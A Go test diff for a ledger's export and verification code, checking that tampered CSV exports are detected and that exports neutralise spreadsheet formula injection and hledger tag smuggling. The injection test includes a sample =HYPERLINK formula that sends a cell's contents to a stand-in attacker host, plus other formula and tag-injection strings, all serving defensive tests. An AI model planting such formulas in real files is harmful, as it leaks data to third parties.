@@ -6,6 +6,9 @@ import (
 	"encoding/json"
 	"errors"
 	"fmt"
+	"os"
+	"os/exec"
+	"path/filepath"
 	"strings"
 	"testing"
 	"time"
@@ -452,4 +455,201 @@ func TestVerifyReportJSON(t *testing.T) {
 	require.Equal(t, "database", m["source"])
 	require.Equal(t, []any{}, m["problems"])
 	require.False(t, errors.Is(rep.Err(), ledger.ErrSealBroken))
+}
+
+// sealedCSV seals sealHistory's ledger and exports everything as CSV, returning the lines
+// (each with its line break) and the entries; the file verifies as it is.
+func sealedCSV(t *testing.T, b *testBundle) ([]string, []ledger.Entry) {
+	t.Helper()
+	entries := sealHistory(t, b, 6)
+	_, err := b.ledger.Seal(b.ctx, ledger.SealOptions{})
+	require.NoError(t, err)
+	var buf bytes.Buffer
+	sum, err := b.ledger.Export(b.ctx, &buf, ledger.ExportOptions{Format: ledger.FormatCSV})
+	require.NoError(t, err)
+	require.Equal(t, entries[len(entries)-1].Seq, sum.SealedThrough)
+	rep := verifyLines(t, b, strings.SplitAfter(buf.String(), "\n"), false)
+	require.True(t, rep.OK(), "%v", rep.Problems)
+	require.Equal(t, sum.SealedThrough, rep.SealedThrough)
+	return strings.SplitAfter(buf.String(), "\n"), entries
+}
+
+func verifyLines(t *testing.T, b *testBundle, lines []string, partial bool) ledger.VerifyReport {
+	t.Helper()
+	rep, err := ledger.VerifyExport(b.ctx, strings.NewReader(strings.Join(lines, "")), ledger.VerifyOptions{Partial: partial})
+	require.NoError(t, err)
+	return rep
+}
+
+func problemKinds(rep ledger.VerifyReport) []string {
+	var out []string
+	for _, p := range rep.Problems {
+		out = append(out, p.Kind)
+	}
+	return out
+}
+
+// TestVerifyExportWholeUnlessPartial: export_scope is not sealed. A whole export with an
+// entry removed and its scope relabelled "filtered" is not verifiable as a whole export
+// (what verify expects unless told --partial), with a hint; told it is partial, verify
+// counts the gap and says so.
+func TestVerifyExportWholeUnlessPartial(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	lines, entries := sealedCSV(t, b)
+	victim := entries[3].ID.String()
+	var out []string
+	for _, l := range lines {
+		if strings.Contains(l, victim) {
+			continue // the award's two rows removed from the file
+		}
+		out = append(out, strings.Replace(l, ",all,", ",program=p,", 1))
+	}
+	rep := verifyLines(t, b, out, false)
+	require.False(t, rep.OK())
+	require.Equal(t, "scope", rep.Problems[0].Kind, "%v", rep.Problems)
+	require.Contains(t, rep.Problems[0].Detail, "not verifiable as a whole export")
+	require.Contains(t, rep.Problems[0].Detail, "--partial")
+	require.Contains(t, problemKinds(rep), "chain", "checked as a whole export, the removed entry is found too")
+	require.False(t, rep.Partial)
+
+	rep = verifyLines(t, b, out, true)
+	require.True(t, rep.OK(), "%v", rep.Problems)
+	require.True(t, rep.Partial)
+	require.Equal(t, int64(1), rep.Gaps, "the gap is counted and said")
+
+	// Rows that disagree on the file-wide columns are malformed.
+	mixed := append([]string{}, lines...)
+	mixed[2] = strings.Replace(mixed[2], ",all,", ",program=p,", 1)
+	rep = verifyLines(t, b, mixed, true)
+	require.Contains(t, problemKinds(rep), "malformed", "%v", rep.Problems)
+}
+
+// TestVerifyExportStrippedLinks: blanking an entry's entry_hash and prev_hash does not make
+// it "not sealed yet" when the file says it was sealed (sealed_through): an altered amount
+// hidden that way is found, and so is a lowered sealed_through below the file's links.
+func TestVerifyExportStrippedLinks(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	lines, entries := sealedCSV(t, b)
+	last := entries[len(entries)-1] // the reversal of the first award
+	for i, l := range lines {
+		if !strings.Contains(l, last.ID.String()) {
+			continue
+		}
+		f := strings.Split(strings.TrimSuffix(l, "\r\n"), ",")
+		require.Len(t, f, 20, l)
+		require.Equal(t, fmt.Sprint(last.Seq), f[19], "sealed_through")
+		f[14] = strings.Replace(f[14], "1.00", "900.00", 1) // amount
+		f[16], f[17] = "", ""                               // entry_hash, prev_hash
+		lines[i] = strings.Join(f, ",") + "\r\n"
+	}
+	rep := verifyLines(t, b, lines, false)
+	require.False(t, rep.OK())
+	require.Contains(t, problemKinds(rep), "unlinked", "%v", rep.Problems)
+	require.ErrorContains(t, rep.Err(), fmt.Sprintf("entry %s (seq %d) has no link although the export says entries through seq %d were sealed",
+		last.ID, last.Seq, last.Seq))
+
+	// sealed_through lowered below the links the file holds: edited.
+	lowered := append([]string{}, lines[:1]...)
+	for _, l := range lines[1:] {
+		if l != "" {
+			l = strings.TrimSuffix(l, fmt.Sprintf(",%d\r\n", last.Seq)) + ",1\r\n"
+		}
+		lowered = append(lowered, l)
+	}
+	rep = verifyLines(t, b, lowered, true)
+	require.False(t, rep.OK())
+	require.ErrorContains(t, rep.Err(), "sealed_through says entries were sealed only through seq 1")
+}
+
+// TestVerifyExportAccountTypeSealed: an account's type is part of the canonical encoding:
+// relabelling an asset an expense in the file names the entries.
+func TestVerifyExportAccountTypeSealed(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	lines, _ := sealedCSV(t, b)
+	changed := 0
+	for i, l := range lines {
+		if strings.Contains(l, ",org/cash/stripe,asset,") {
+			lines[i] = strings.Replace(l, ",org/cash/stripe,asset,", ",org/cash/stripe,expense,", 1)
+			changed++
+		}
+	}
+	require.Positive(t, changed)
+	rep := verifyLines(t, b, lines, false)
+	require.False(t, rep.OK())
+	require.Equal(t, "altered", rep.Problems[0].Kind, "%v", rep.Problems)
+}
+
+// TestExportCSVFormulaInjection: a free-text cell a spreadsheet would read as a formula is
+// written with a leading ' (and a text starting with ' keeps its own); verify takes exactly
+// that ' away, so the file still verifies byte for byte.
+func TestExportCSVFormulaInjection(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	b.openAccounts(t)
+	descs := []string{"=1+2", "'quoted", "-5", "@x", "+1", "\tx", `=HYPERLINK("https://evil.example/?"&A1,"click")`}
+	for i, d := range descs {
+		e := transfer(fmt.Sprintf("=key-%d", i), "org/cash/stripe", "program/p/fund", "1.00")
+		e.Description = d
+		_, err := b.ledger.Post(b.ctx, e)
+		require.NoError(t, err)
+	}
+	_, err := b.ledger.Seal(b.ctx, ledger.SealOptions{})
+	require.NoError(t, err)
+	var buf bytes.Buffer
+	_, err = b.ledger.Export(b.ctx, &buf, ledger.ExportOptions{Format: ledger.FormatCSV})
+	require.NoError(t, err)
+	file := buf.String()
+	for _, cell := range []string{`,'=1+2,`, `,''quoted,`, `,'-5,`, `,'@x,`, `,'+1,`, ",'\tx,", `,"'=HYPERLINK(`, `,'=key-0,`} {
+		require.Contains(t, file, cell)
+	}
+	for _, cell := range []string{`,=1+2,`, `,-5,`, `,@x,`, `,"=HYPERLINK(`, `,=key-0,`} {
+		require.NotContains(t, file, cell, "a cell that starts a spreadsheet formula")
+	}
+	rep := verifyLines(t, b, strings.SplitAfter(file, "\n"), false)
+	require.True(t, rep.OK(), "%v", rep.Problems)
+	require.Equal(t, int64(len(descs)), rep.Entries)
+	// JSON Lines is not a spreadsheet's: its text is as stored.
+	buf.Reset()
+	_, err = b.ledger.Export(b.ctx, &buf, ledger.ExportOptions{Format: ledger.FormatJSONL})
+	require.NoError(t, err)
+	require.Contains(t, buf.String(), `"description":"=1+2"`)
+}
+
+// TestExportHledgerDescriptionWithSemicolon: on hledger's transaction line ';' starts a
+// comment, whose "name:value" words are tags: the description's ';' is written as ',', and
+// the full description is kept in a comment that plants no tags.
+func TestExportHledgerDescriptionWithSemicolon(t *testing.T) {
+	t.Parallel()
+	hledger, err := exec.LookPath("hledger")
+	if err != nil {
+		t.Skip("hledger is not installed")
+	}
+	b := setup(t)
+	b.openAccounts(t)
+	e := transfer("semi", "org/cash/stripe", "program/p/fund", "1.00")
+	e.Description = "refund to Ana; seal:0000, kind:void | note"
+	_, err = b.ledger.Post(b.ctx, e)
+	require.NoError(t, err)
+	_, err = b.ledger.Post(b.ctx, transfer("plain", "org/cash/stripe", "program/p/fund", "1.00"))
+	require.NoError(t, err)
+	var buf bytes.Buffer
+	_, err = b.ledger.Export(b.ctx, &buf, ledger.ExportOptions{Format: ledger.FormatHledger})
+	require.NoError(t, err)
+	journal := buf.String()
+	require.Contains(t, journal, `; description: "refund to Ana; seal:0000\u002c kind:void | note"`)
+	require.Equal(t, 1, strings.Count(journal, "; description:"), "only where the line differs:\n%s", journal)
+	file := filepath.Join(t.TempDir(), "l.journal")
+	require.NoError(t, os.WriteFile(file, buf.Bytes(), 0o600))
+	hl := func(args ...string) string {
+		out, err := exec.Command(hledger, append([]string{"-f", file}, args...)...).CombinedOutput()
+		require.NoError(t, err, "%s\n%s", out, journal)
+		return string(out)
+	}
+	require.Contains(t, hl("register", "-O", "csv", "--width", "300"), "refund to Ana, seal:0000, kind:void | note")
+	require.Empty(t, strings.TrimSpace(hl("register", "tag:seal")), "no seal tag planted (nothing is sealed)")
+	require.Empty(t, strings.TrimSpace(hl("register", "tag:kind=void")), "no kind tag planted")
+	require.NotEmpty(t, strings.TrimSpace(hl("register", "tag:description")))
 }
